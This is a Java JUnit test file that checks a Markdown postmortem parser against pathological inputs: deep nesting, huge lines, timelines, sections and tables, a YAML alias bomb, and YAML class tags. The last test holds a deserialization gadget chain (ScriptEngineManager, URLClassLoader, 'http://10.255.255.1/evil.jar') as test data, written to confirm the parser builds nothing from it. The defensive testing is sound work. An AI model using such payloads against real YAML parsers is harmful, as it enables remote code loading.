package dev.postmortem.markdown.robust;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.postmortem.core.Metadata;
import dev.postmortem.core.Postmortem;
import dev.postmortem.markdown.ParseResult;
import dev.postmortem.markdown.PostmortemParseException;
import dev.postmortem.markdown.PostmortemParser;
import java.io.StringReader;
import java.util.Arrays;
import java.util.Map;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * Hostile Markdown: deep nesting, a huge line, huge timelines and section lists, a very wide table,
 * YAML front matter with alias bombs and class tags. Each ends within its timeout in a result or in a
 * {@link PostmortemParseException} that names the limit and how to raise it; nothing recurses as deep
 * as the input nests; the cost grows linearly with the document, so {@code maxDocumentSize} bounds it.
 */
class PathologicalMarkdownTest {

    private static final int DEEP = 100_000;
    private static final int TEN_MB = 10 * 1024 * 1024;
    private static final PostmortemParser PARSER = Fixtures.PARSER;
    private static final String SIZE_LIMIT = "maxDocumentSize of 4194304 characters;"
            + " raise it with PostmortemParser.builder().maxDocumentSize(int)";

    /** Runs on a thread with a 256 KiB stack: input nested 100,000 deep must not need a deep stack. */
    private static <T> T onSmallStack(Supplier<T> work) throws InterruptedException {
        AtomicReference<T> result = new AtomicReference<>();
        AtomicReference<Throwable> failure = new AtomicReference<>();
        Thread t = new Thread(null, () -> {
            try {
                result.set(work.get());
            } catch (Throwable e) {
                failure.set(e);
            }
        }, "small-stack", 256 * 1024);
        t.start();
        t.join();
        if (failure.get() != null) {
            throw new AssertionError("failed on a small stack", failure.get());
        }
        return result.get();
    }

    /** Parses and renders on a small stack; the result must be sound and its text must survive rendering. */
    private static String parseAndRender(String doc, String kept) throws InterruptedException {
        return onSmallStack(() -> {
            ParseResult r = PARSER.parse(doc);
            assertNull(Fixtures.badResult(doc, r), () -> Fixtures.badResult(doc, r));
            String out = Fixtures.RENDERER.render(r.postmortem());
            assertTrue(out.contains(kept), () -> "lost '" + kept + "': " + Fixtures.clip(out));
            return out;
        });
    }

    private static long ms(long t0) {
        return (System.nanoTime() - t0) / 1_000_000;
    }

    // ---------------------------------------------------------------- nesting

    @Test
    @Timeout(30)
    void listsAndQuotesNested100000DeepAreReadAsTextBeyondMaxNesting() throws InterruptedException {
        long t0 = System.nanoTime();
        parseAndRender("# Deep\n\n## Timeline\n\n" + "- ".repeat(DEEP) + "deepest\n", "deepest");
        parseAndRender("# Deep\n\n## Corrective actions\n\n" + "1. ".repeat(DEEP) + "deepest\n", "deepest");
        parseAndRender("# Deep\n\n## Summary\n\n" + ">".repeat(DEEP) + " deepest\n", "deepest");
        parseAndRender("# Deep\n\n## Summary\n\n" + "> - ".repeat(DEEP) + "deepest\n", "deepest");
        // one level more per line: 2,000 lines, 2 million quote markers
        StringBuilder stairs = new StringBuilder("# Stairs\n\n## Lessons learned\n\n");
        for (int i = 1; i <= 2_000; i++) {
            stairs.append(">".repeat(i)).append(" step ").append(i).append('\n');
        }
        parseAndRender(stairs.toString(), "step 2000");
        System.out.println("lists and quotes nested " + DEEP + " deep: parsed and rendered in " + ms(t0) + " ms");
    }

    @Test
    @Timeout(10)
    void maxNestingIsCheckedAndKeepsDeepTextWhenRaisedOrLowered() throws InterruptedException {
        assertEquals(PostmortemParser.DEFAULT_MAX_NESTING, PARSER.maxNesting());
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> PostmortemParser.builder().maxNesting(1));
        assertEquals("maxNesting must be >= 2, was 1", e.getMessage());
        String doc = "# Deep\n\n## Summary\n\n" + "> ".repeat(5_000) + "deepest\n";
        for (int limit : new int[] {2, 1_000}) {
            PostmortemParser p = PostmortemParser.builder().maxNesting(limit).build();
            Postmortem pm = onSmallStack(() -> p.parse(doc).postmortem());
            assertTrue(Fixtures.RENDERER.render(pm).contains("deepest"), "maxNesting " + limit);
        }
    }

    // ---------------------------------------------------------------- size

    @Test
    @Timeout(30)
    void aTenMegabyteLineIsRefusedByTheSizeLimitOrReadWhenRaised() {
        String line = "# Wide\n\n## Root cause\n\n" + "word ".repeat(TEN_MB / 5) + "end";
        long t0 = System.nanoTime();
        PostmortemParseException e = assertThrows(PostmortemParseException.class, () -> PARSER.parse(line));
        assertEquals("the document has " + line.length() + " characters, more than " + SIZE_LIMIT, e.getMessage());
        PostmortemParseException fromReader = assertThrows(PostmortemParseException.class,
                () -> PARSER.parse(new StringReader(line)));
        assertEquals("the document has more than " + SIZE_LIMIT, fromReader.getMessage());
        long refusedMs = ms(t0);

        PostmortemParser big = PostmortemParser.builder().maxDocumentSize(2 * TEN_MB).build();
        t0 = System.nanoTime();
        Postmortem pm = big.parse(line).postmortem();
        long readMs = ms(t0);
        assertTrue(pm.rootCause().endsWith("word end"));
        assertEquals(line.length() - "# Wide\n\n## Root cause\n\n".length(), pm.rootCause().length());
        // A line of emphasis markers, the costliest inline text, within the default limit.
        String stars = "# Stars\n\n## Summary\n\n" + "**a ".repeat(1 << 18);
        t0 = System.nanoTime();
        assertTrue(PARSER.parse(stars).postmortem().summary().description().endsWith("**a"));
        long starsMs = ms(t0);
        System.out.println("a 10 MB line: refused in " + refusedMs + " ms by default, read in " + readMs
                + " ms with maxDocumentSize raised; a 1 MB line of emphasis markers read in " + starsMs + " ms");
    }

    @Test
    @Timeout(10)
    void theSizeLimitIsExactAndChecked() {
        PostmortemParser ten = PostmortemParser.builder().maxDocumentSize(10).build();
        assertEquals("T", ten.parse("# T\n\n12345").postmortem().title());
        PostmortemParseException e = assertThrows(PostmortemParseException.class, () -> ten.parse("# T\n\n123456"));
        assertEquals("the document has 11 characters, more than maxDocumentSize of 10 characters;"
                + " raise it with PostmortemParser.builder().maxDocumentSize(int)", e.getMessage());
        assertEquals("maxDocumentSize must be >= 1, was 0", assertThrows(IllegalArgumentException.class,
                () -> PostmortemParser.builder().maxDocumentSize(0)).getMessage());
        assertEquals(PostmortemParser.DEFAULT_MAX_DOCUMENT_SIZE, PARSER.maxDocumentSize());
    }

    // ---------------------------------------------------------------- many parts

    private static String timeline(int entries) {
        StringBuilder sb = new StringBuilder(entries * 22).append("# Long\n\n## Timeline\n\n");
        for (int i = 0; i < entries; i++) {
            int h = i / 60 % 24;
            int m = i % 60;
            sb.append("- **").append(h / 10).append(h % 10).append(':').append(m / 10).append(m % 10).append("** - step ")
                    .append(i % 10).append('\n');
        }
        return sb.toString();
    }

    @Test
    @Timeout(30)
    void aMillionTimelineEntriesAreRefusedByTheSizeLimitAtOnce() {
        String doc = timeline(1_000_000);
        long t0 = System.nanoTime();
        PostmortemParseException e = assertThrows(PostmortemParseException.class, () -> PARSER.parse(doc));
        long refusedMs = ms(t0);
        assertEquals("the document has " + doc.length() + " characters, more than " + SIZE_LIMIT, e.getMessage());
        assertTrue(refusedMs < 1_000, "refusing took " + refusedMs + " ms");
        System.out.println("a million timeline entries (" + doc.length() + " chars): refused in " + refusedMs
                + " ms; the size limit bounds the entries, whose cost is linear (see the next test)");
    }

    @Test
    @Timeout(60)
    void parseTimeGrowsLinearlyWithTheTimeline() {
        String small = timeline(1_000);
        String large = timeline(100_000);
        for (int i = 0; i < 10; i++) {
            PARSER.parse(small);
        }
        PARSER.parse(timeline(10_000));
        long[] smallRuns = new long[9];
        for (int i = 0; i < smallRuns.length; i++) {
            long t0 = System.nanoTime();
            assertEquals(1_000, PARSER.parse(small).postmortem().timeline().entries().size());
            smallRuns[i] = System.nanoTime() - t0;
        }
        Arrays.sort(smallRuns);
        double perSmall = smallRuns[smallRuns.length / 2] / 1_000.0;
        Postmortem pm = null;
        double perLarge = Double.MAX_VALUE;
        // a second measurement only when the first looks superlinear: one GC pause must not fail the build
        for (int attempt = 0; attempt < 2 && perLarge >= 5 * perSmall; attempt++) {
            long t0 = System.nanoTime();
            pm = PARSER.parse(large).postmortem();
            perLarge = Math.min(perLarge, (System.nanoTime() - t0) / 100_000.0);
        }
        // the work, counted: every entry read once, with its text
        assertEquals(100_000, pm.timeline().entries().size());
        assertEquals("step 9", pm.timeline().entries().get(99_999).text());
        System.out.printf("timeline of 1,000 entries: %.1f us per entry; of 100,000: %.1f us per entry (%.2fx)%n",
                perSmall / 1_000, perLarge / 1_000, perLarge / perSmall);
        // generous: a loaded two-core machine pauses for GC and other processes; quadratic work would be 100x
        double small1 = perSmall;
        double large1 = perLarge;
        assertTrue(perLarge < 5 * perSmall, () -> String.format("per-entry time grew from %.1f to %.1f us",
                small1 / 1_000, large1 / 1_000));
    }

    @Test
    @Timeout(30)
    void a100000SectionsAreKeptInOrder() {
        StringBuilder sb = new StringBuilder("# Many\n\n");
        for (int i = 0; i < 100_000; i++) {
            sb.append("## Part ").append(i).append("\n\nbody ").append(i).append("\n\n");
        }
        String doc = sb.toString();
        assertTrue(doc.length() < PostmortemParser.DEFAULT_MAX_DOCUMENT_SIZE);
        long t0 = System.nanoTime();
        ParseResult r = PARSER.parse(doc);
        long parseMs = ms(t0);
        assertEquals(100_000, r.postmortem().sections().size());
        assertEquals("body 99999", r.postmortem().sections().get(99_999).body());
        assertEquals(100_000, r.diagnostics().size()); // one kept-section note each
        t0 = System.nanoTime();
        String out = Fixtures.RENDERER.render(r.postmortem());
        long renderMs = ms(t0);
        assertTrue(out.endsWith("## Part 99999\n\nbody 99999\n"), () -> out.substring(out.length() - 100));
        System.out.println("100,000 sections: parsed in " + parseMs + " ms, rendered in " + renderMs + " ms");
    }

    @Test
    @Timeout(20)
    void aTableWith10000ColumnsIsRead() {
        StringBuilder sb = new StringBuilder("# Wide table\n\n## Timeline\n\n| Time |");
        for (int c = 1; c < 10_000; c++) {
            sb.append(" c").append(c).append(" |");
        }
        sb.append("\n|").append(" --- |".repeat(10_000)).append('\n');
        for (int r = 0; r < 5; r++) {
            sb.append("| 14:0").append(r).append(" |");
            for (int c = 1; c < 10_000; c++) {
                sb.append(" v").append(c).append(" |");
            }
            sb.append('\n');
        }
        String doc = sb.toString();
        long t0 = System.nanoTime();
        ParseResult r = PARSER.parse(doc);
        String out = Fixtures.RENDERER.render(r.postmortem());
        long ms = ms(t0);
        assertNull(Fixtures.badResult(doc, r));
        assertEquals(5, r.postmortem().timeline().entries().size());
        assertTrue(r.postmortem().timeline().entries().get(4).text().endsWith("v9999"));
        assertTrue(out.contains("v9999"));
        System.out.println("a table of 10,000 columns: parsed and rendered in " + ms + " ms");
    }

    // ---------------------------------------------------------------- YAML front matter

    @Test
    @Timeout(10)
    void anAliasBombIsNotExpanded() {
        // nine levels of nine aliases: 387,420,489 strings if aliases were expanded
        StringBuilder sb = new StringBuilder("---\nid: INC-9\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'i'; c++) {
            sb.append(c).append(": &").append(c).append(" [").append(("*" + prev + ",").repeat(8)).append('*').append(prev)
                    .append("]\n");
            prev = c;
        }
        String doc = sb.append("---\n\n# Laughs\n\nText.\n").toString();
        long t0 = System.nanoTime();
        ParseResult r = PARSER.parse(doc);
        String out = Fixtures.RENDERER.render(r.postmortem());
        long ms = ms(t0);
        Metadata md = r.postmortem().metadata();
        assertEquals("INC-9", md.id());
        assertEquals("Laughs", r.postmortem().title());
        // an alias is read as its anchor's name, never as a copy of the anchored value
        assertEquals("[\"h\",\"h\",\"h\",\"h\",\"h\",\"h\",\"h\",\"h\",\"h\"]", md.extra().get("i"));
        assertTrue(out.length() < 2 * doc.length(), () -> "rendered " + out.length() + " chars");
        assertTrue(ms < 5_000, "took " + ms + " ms");
        System.out.println("a YAML alias bomb: read in " + ms + " ms, " + out.length() + " chars rendered");
    }

    @Test
    @Timeout(10)
    void classTagsConstructNothing() {
        String doc = "---\n"
                + "id: !!java.lang.Runtime INC-7\n"
                + "severity: !<tag:yaml.org,2002:javax.script.ScriptEngineManager> SEV1\n"
                + "status: !custom final\n"
                + "loader: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://10.255.255.1/evil.jar\"]]]]\n"
                + "---\n\n# Tagged\n";
        long t0 = System.nanoTime();
        ParseResult r = PARSER.parse(doc);
        long ms = ms(t0);
        Metadata md = r.postmortem().metadata();
        // plain scalars only: the tags are dropped, the values kept as text
        assertEquals("INC-7", md.id());
        assertEquals("SEV1", md.severity());
        assertEquals("final", md.status());
        assertEquals(Map.of("loader", "[[[[\"http://10.255.255.1/evil.jar\"]]]]"), md.extra());
        assertTrue(ms < 2_000, "took " + ms + " ms");

        // a tagged document root is not a mapping: the block is kept as Markdown with a warning
        String root = "---\n!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://10.255.255.1/\"]]]]\n---\n\n# Tagged root\n";
        ParseResult rr = PARSER.parse(root);
        assertEquals("front-matter", rr.diagnostics().get(0).ruleId());
        assertEquals(Metadata.EMPTY, rr.postmortem().metadata());
        String out = Fixtures.RENDERER.render(rr.postmortem());
        assertTrue(out.contains("!!javax.script.ScriptEngineManager"), out);
        assertNotNull(rr.postmortem());
    }
}
